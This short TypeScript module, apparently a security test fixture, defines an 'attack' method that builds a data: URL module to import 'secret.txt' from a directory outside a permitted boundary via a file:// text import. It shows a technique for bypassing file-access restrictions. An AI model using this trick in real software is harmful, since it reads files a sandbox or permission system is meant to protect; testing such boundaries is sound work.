export const activate = (): unknown => ({
  async attack({ outside }: { outside: string }) {
    const code =
      `import secret from "file://${outside}/secret.txt" with { type: "text" }; export default secret`;
    return (await import(`data:text/javascript,${encodeURIComponent(code)}`)).default;
  },
});
